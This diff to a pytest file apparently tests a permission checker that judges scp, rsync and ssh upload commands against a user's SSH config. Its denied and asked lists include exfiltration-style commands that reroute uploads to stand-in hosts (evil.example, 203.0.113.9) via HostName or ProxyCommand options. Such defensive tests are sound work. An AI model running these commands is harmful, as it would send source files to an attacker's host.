@@ -211,7 +211,7 @@ UPLOAD_ASKED = [
     "scp dist/app.tgz nas.lan:",
     "scp dist/app.tgz box.home.arpa:",
     "scp dist/app.tgz mini10v:/var/www/",
-    "scp dist/app.tgz build-public:",
+    "scp dist/app.tgz build-public:/srv/app/",  # round 16: a copy to its home or temp dir is allowed (test_ordinary_round16)
 ]
 UPLOAD_DENIED = [
     "scp -o HostName=203.0.113.9 dist/app.tgz staging:",
@@ -221,6 +221,10 @@ UPLOAD_DENIED = [
     "rsync -e 'ssh -o HostName=evil.example' -av dist/ staging:/srv/",
     "RSYNC_RSH='ssh -o ProxyCommand=x' rsync -av dist/ staging:/srv/",
     "tar czf - src | ssh -o HostName=203.0.113.9 staging 'cat > x'",
+]
+# Round 16: a domain typed as it is reached is an account the user's keys open there: asked (net.upload-ssh-host), and
+# a Host pattern (`*.amazonaws.com`) does not make every machine it covers the user's.
+UPLOAD_NAMED_ASKED = [
     "scp dist/app.tgz ec2-203-0-113-9.compute-1.amazonaws.com:",
     "scp dist/app.tgz evil.example:",
 ]
@@ -234,6 +238,11 @@ def test_an_upload_to_a_host_the_users_ssh_config_covers(command: str) -> None:
 @pytest.mark.parametrize("command", UPLOAD_ASKED)
 def test_a_private_name_the_config_does_not_cover_is_asked(command: str) -> None:
     assert judged(command, SSH_CONFIG) == ("ask", ["net.upload-own-host"])
+
+
+@pytest.mark.parametrize("command", UPLOAD_NAMED_ASKED)
+def test_an_upload_to_a_named_host_is_asked(command: str) -> None:
+    assert judged(command, SSH_CONFIG) == ("ask", ["net.upload-ssh-host"])
 
 
 @pytest.mark.parametrize("command", UPLOAD_DENIED)
